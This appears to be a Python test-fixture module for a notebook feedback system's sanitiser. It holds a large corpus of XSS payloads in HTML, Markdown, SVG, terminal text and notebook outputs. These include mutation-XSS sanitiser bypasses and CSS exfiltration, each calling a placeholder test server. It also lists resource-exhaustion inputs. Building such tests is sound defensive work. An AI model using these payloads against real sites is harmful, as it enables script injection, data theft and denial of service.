"""What hostile students put into their notebooks, for the feedback's tests.

Each payload tells that it worked by asking for {hit}, an address of the test's own server: as a script, or because
something in it is fetched when the page is opened, or clicked on. A payload is (text, fires), where `fires` says
whether it works in Chromium when nothing is done about it: the negative control. Those that do not are kept for other
browsers, or because they are made to slip through a sanitiser that parses otherwise.
"""

from __future__ import annotations

import base64
import json

SCRIPT = "void(new Image().src='{hit}')"
CODED = "".join(f"&#{ord(c)};" for c in "javascript:")


def _data(kind: str, text: str) -> str:
    return f"data:{kind};base64,{base64.b64encode(text.encode()).decode()}"


HTML = {
    "script": (f"<script>{SCRIPT}</script>", True),
    "script src": ("<script src='{hit}'></script>", True),
    "script in capitals": (f"<ScRiPt>{SCRIPT}</sCrIpT >", True),
    "script with slash": (f"<script/x>{SCRIPT}</script>", True),
    "onerror": (f'<img src=x onerror="{SCRIPT}">', True),
    "onerror with slashes": (f'<img/src="x"/onerror="{SCRIPT}">', True),
    "onload of svg": (f'<svg onload="{SCRIPT}">', True),
    "onfocus autofocus": (f'<input autofocus onfocus="{SCRIPT}">', False),
    "ontoggle": (f'<details open ontoggle="{SCRIPT}"><summary>x</summary></details>', True),
    "onanimationstart": (
        f'<style>@keyframes k{{}}</style><b style="animation:k 1s" onanimationstart="{SCRIPT}">x</b>',
        True,
    ),
    "javascript link": (f'<a href="javascript:{SCRIPT}">x</a>', True),
    "javascript link in entities": (f'<a href="{CODED}{SCRIPT}">x</a>', True),
    "javascript link with tab": (f'<a href="java&#9;script:{SCRIPT}">x</a>', True),
    "javascript link with newline": (f'<a href="java\nscript:{SCRIPT}">x</a>', True),
    "javascript link after controls": (f'<a href="&#1; javascript:{SCRIPT}">x</a>', True),
    "vbscript link": ("<a href=\"vbscript:msgbox('{hit}')\">x</a>", False),
    "data link": (f'<a href="{_data("text/html", "<script>1</script>")}">x</a>', False),
    "xlink": (f'<svg><a xlink:href="javascript:{SCRIPT}"><text y="20">x</text></a></svg>', True),
    "iframe": ("<iframe src='{hit}'></iframe>", True),
    "iframe srcdoc": (f'<iframe srcdoc="&lt;script&gt;{SCRIPT}&lt;/script&gt;"></iframe>', True),
    "iframe javascript": (f'<iframe src="javascript:{SCRIPT}"></iframe>', True),
    "object": ("<object data='{hit}'></object>", True),
    "embed": ("<embed src='{hit}'>", True),
    "frameset": ("<frameset><frame src='{hit}'></frameset>", False),
    "form": ("<form action='{hit}'><button>x</button></form>", True),
    "formaction": ("<form><button formaction='{hit}'>x</button></form>", True),
    "button of a form elsewhere": ("<form id=f action='{hit}'></form><button form=f>x</button>", True),
    "base": ("<base href='{hit}/'><img src='relative.png'>", True),
    "meta refresh": ("<meta http-equiv=refresh content='0;url={hit}'>", True),
    "stylesheet": ("<link rel=stylesheet href='{hit}'>", True),
    "prefetch": ("<link rel=prefetch href='{hit}'>", True),
    "preload": ("<link rel=preload as=image href='{hit}'>", True),
    "style import": ("<style>@import '{hit}';</style>", True),
    "style url": ("<style>body{background:url({hit})}</style>", True),
    "style attribute url": ('<div style="background:url({hit});height:9px">x</div>', True),
    "style attribute escaped url": ('<div style="background:u\\72l({hit});height:9px">x</div>', True),
    "style attribute image-set": ("<div style=\"background:image-set('{hit}' 1x);height:9px\">x</div>", True),
    "style attribute comment": ('<div style="background:/**/url({hit});height:9px">x</div>', True),
    "style exfiltration": ("<input value=abc><style>input[value^=a]{background:url({hit})}</style>", True),
    "font face": ("<style>@font-face{font-family:q;src:url({hit})}</style><b style='font-family:q'>x</b>", True),
    "image": ("<img src='{hit}'>", True),
    "srcset": ("<img srcset='{hit} 1x'>", True),
    "picture source": ("<picture><source srcset='{hit}'><img src=''></picture>", True),
    "video poster": ("<video poster='{hit}'></video>", True),
    "audio": ("<audio src='{hit}' preload=auto></audio>", True),
    "table background": ("<table background='{hit}'><tr><td>x</table>", True),
    "svg image": ("<svg><image href='{hit}' width=9 height=9 /></svg>", True),
    "svg use": ("<svg><use href='{hit}#x'/></svg>", True),
    "svg animate": (f'<svg><animate onbegin="{SCRIPT}" attributeName=x dur=1s></svg>', True),
    "svg foreignObject": (f'<svg><foreignObject><img src=x onerror="{SCRIPT}"></foreignObject></svg>', True),
    "math link": (f'<math><mtext href="javascript:{SCRIPT}">x</mtext></math>', False),
    "template": (f'<template><img src=x onerror="{SCRIPT}"></template>', False),
    "noscript": (f'<noscript><p title="</noscript><img src=x onerror=&quot;{SCRIPT}&quot;>">', False),
    "noscript broken out": (f"<noscript><p title='</noscript><img src=x onerror=\"{SCRIPT}\">'>", True),
    "mutation by style in svg": (f"<svg><p><style><a id='</style><img src=1 onerror=\"{SCRIPT}\">'>", True),
    "mutation by mglyph": (
        f'<form><math><mtext></form><form><mglyph><style></math><img src onerror="{SCRIPT}">',
        False,
    ),
    "mutation by comment in math": (
        f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={SCRIPT}&gt;">',
        False,
    ),
    "mutation by select": (f'<select><style></select><img src=x onerror="{SCRIPT}"></style>', False),
    "mutation by title": (f"<svg><title><style><img title='</style></title><img src=x onerror=\"{SCRIPT}\">'>", True),
    "annotation-xml": (
        '<math><annotation-xml encoding="text/html"><style>'
        f'<img src=x onerror="{SCRIPT}"></style></annotation-xml></math>',
        False,
    ),
    "comment": (f'<!--><img src=x onerror="{SCRIPT}">-->', True),
    "conditional comment": (f"<!--[if gte IE 4]><script>{SCRIPT}</script><![endif]-->", False),
    "processing instruction": (f"<?xml x='><img src=x onerror=\"{SCRIPT}\">'?>", True),
    "unclosed tag": (f'<img src=x onerror="{SCRIPT}" ', True),
    "null in the name": (f"<scr\x00ipt>{SCRIPT}</scr\x00ipt>", False),
    "place of a formula": ("<data value='0'></data><a title='<data value=\"0\"></data>'>x</a>", False),
    "end of the page": (f"</pre></div></section></main></body></html><script>{SCRIPT}</script>", True),
    "dialog": ("<dialog open style='position:fixed;inset:0'>40 / 40</dialog>", False),
}

MARKDOWN = {
    "raw script": (f"text\n\n<script>{SCRIPT}</script>", True),
    "raw block": (f'<div>\n<img src=x onerror="{SCRIPT}">\n</div>', True),
    "image from afar": ("![x]({hit})", True),
    "image by reference": ("![x][r]\n\n[r]: {hit}", True),
    "link": (f"[x](<javascript:{SCRIPT}>)", True),
    "link by reference": (f"[x][r]\n\n[r]: <javascript:{SCRIPT}>", True),
    "link in angles": ("<javascript:void(fetch('{hit}'))>", True),
    "link with entities": (f"[x](<java&#115;cript:{SCRIPT}>)", True),
    "title that breaks out": (f'[x](https://example.org "a\' onmouseover=&quot;{SCRIPT}&quot;")', False),
    "formula with markup": (f'$\\text{{<img src=x onerror="{SCRIPT}">}}$', False),
    "formula with a link": (f"$\\href{{javascript:{SCRIPT}}}{{x}}$", False),
    "formula with a style": ("$\\style{background:url({hit})}{x}$", False),
    "formula in an attribute": ("<a title=\"$x$\" href='$y$'>x</a>", False),
    "formula that closes itself": (f'$x$ $</math><img src=x onerror="{SCRIPT}">$', False),
    "code block": (f"```html\n</pre><script>{SCRIPT}</script>\n```", False),
    "name of a language": (f'```"><img/src=x/onerror="{SCRIPT}">\nx\n```', False),
    "mermaid": (f"```mermaid\n</pre><script>{SCRIPT}</script>\n```", True),
    "heading": (f'# <img src=x onerror="{SCRIPT}">', True),
    "missing attachment": ('![x](attachment:"><script>1</script>)', False),
}

SVG = {
    "svg script": (f"<svg xmlns='http://www.w3.org/2000/svg'><script>{SCRIPT}</script><circle r='5'/></svg>", True),
    "svg onload": (f'<svg xmlns="http://www.w3.org/2000/svg" onload="{SCRIPT}"><circle r="5"/></svg>', True),
    "svg picture from afar": (
        "<svg xmlns='http://www.w3.org/2000/svg' xmlns:xlink='http://www.w3.org/1999/xlink'>"
        "<image xlink:href='{hit}' width='9' height='9'/></svg>",
        True,
    ),
    "svg style": (
        "<svg xmlns='http://www.w3.org/2000/svg'><style>@import url({hit});</style><circle r='5'/></svg>",
        True,
    ),
    "svg fill from afar": (
        "<svg xmlns='http://www.w3.org/2000/svg'><rect width='9' height='9' style='fill:url({hit}#a)'/></svg>",
        False,
    ),
    "svg foreign": (
        "<svg xmlns='http://www.w3.org/2000/svg'><foreignObject width='9' height='9'>"
        "<iframe xmlns='http://www.w3.org/1999/xhtml' src='{hit}'></iframe></foreignObject></svg>",
        True,
    ),
    "svg set": (
        f"<svg xmlns='http://www.w3.org/2000/svg'><a><set attributeName='href' to='javascript:{'{hit}'}'/>"
        "<text y='9'>x</text></a></svg>",
        False,
    ),
    "svg stylesheet": (
        "<?xml version='1.0'?><?xml-stylesheet href='{hit}'?>"
        "<svg xmlns='http://www.w3.org/2000/svg'><path d='M0 0'/></svg>",
        False,
    ),
    "svg entity": (
        "<!DOCTYPE svg [<!ENTITY x SYSTEM '{hit}'>]><svg xmlns='http://www.w3.org/2000/svg'><text>&x;</text></svg>",
        False,
    ),
}

TEXT = {  # printed, or in an exception
    "printed markup": (f"</pre><script>{SCRIPT}</script>", True),
    "coloured markup": (f'\x1b[31m<img src=x onerror="{SCRIPT}">\x1b[0m', True),
    "markup in a colour": (f'\x1b[38;2;1;2;"><img src=x onerror="{SCRIPT}">m', True),
    "terminal link": ("\x1b]8;;{hit}\x1b\\x\x1b]8;;\x1b\\", False),
    "half a character": (f'\ud800<img src=x onerror="{SCRIPT}">\udfff', True),
    "overwritten": (f'safe\r<img src=x onerror="{SCRIPT}">\n', True),
}

DATA = {  # outputs in forms that nobody should run
    "javascript": {"application/javascript": SCRIPT, "text/plain": "<Javascript>"},
    "widget": {
        "application/vnd.jupyter.widget-view+json": json.dumps({"model_id": f"</script><script>{SCRIPT}</script>"})
    },
    "plotly": {"application/vnd.plotly.v1+json": f"</script><script>{SCRIPT}</script>"},
    "a form with markup in its name": {f'image/png"><script>{SCRIPT}</script>': "iVBORw0KGgo="},
    "png that is none": {"image/png": f'x" onerror="{SCRIPT}'},
    "svg for png": {"image/png": base64.b64encode(SVG["svg script"][0].encode()).decode()},
    "html for png": {"image/png": base64.b64encode(f"<script>{SCRIPT}</script>".encode()).decode()},
    "latex": {"text/latex": f"$\\text{{<script>{SCRIPT}</script>}}$ <script>{SCRIPT}</script>"},
    "markdown": {"text/markdown": f"<script>{SCRIPT}</script>"},
    "json": {"application/json": f"</script><script>{SCRIPT}</script>"},
    "pdf": {"application/pdf": "JVBERi0="},
    "text": {"text/plain": f"<script>{SCRIPT}</script>"},
    "not text": {"text/html": {"a": 1}, "text/plain": 7},
}

# What takes its time, or room: (how it is shown, text)
LARGE = {
    "deep": ("html", "<div>" * 200_000),
    "deep inside closed ones": ("html", "<div><table></div></table>" * 30_000),
    "marks that repeat": ("html", "".join(f"<font color={k}>" for k in range(3000)) + "<p>" * 900),
    "attributes": ("html", "<div " + " ".join(f"a{k}" for k in range(400_000)) + ">"),
    "a style that matches in many ways": ("html", "<b style='" + ("color: " + "a" * 90 + "!;") * 40 + "'>x</b>" * 500),
    "ends": ("html", "<span>" * 3000 + "</div>" * 150_000),
    "brackets": ("markdown", "[" * 90_000),
    "formulas": ("markdown", "$a^b$ " * 16_000),
    "a deep formula": ("markdown", "$" + "{" * 2400 + "}" * 2400 + "$"),
    "quotes": ("markdown", "> " * 50_000),
    "stars": ("markdown", "*a **b " * 14_000),
    "printed": ("terminal", "\x1b[" * 5_000_000),
    "lines": ("terminal", "\r" * 5_000_000 + "\n" * 5_000_000),
    "copies": (
        "svg",
        "<svg xmlns='http://www.w3.org/2000/svg'><g id='a0'><path d='M0 0'/></g>"
        + "".join(f"<g id='a{k}'>" + f"<use href='#a{k - 1}'/>" * 10 + "</g>" for k in range(1, 12))
        + "</svg>",
    ),
    "a circle of copies": ("svg", "<svg xmlns='http://www.w3.org/2000/svg'><g id='a'><use href='#a'/></g></svg>"),
    "code": ("code", "(" * 59_000),
    "code of strings": ("code", "'''\"\"\"" * 9_000),
}
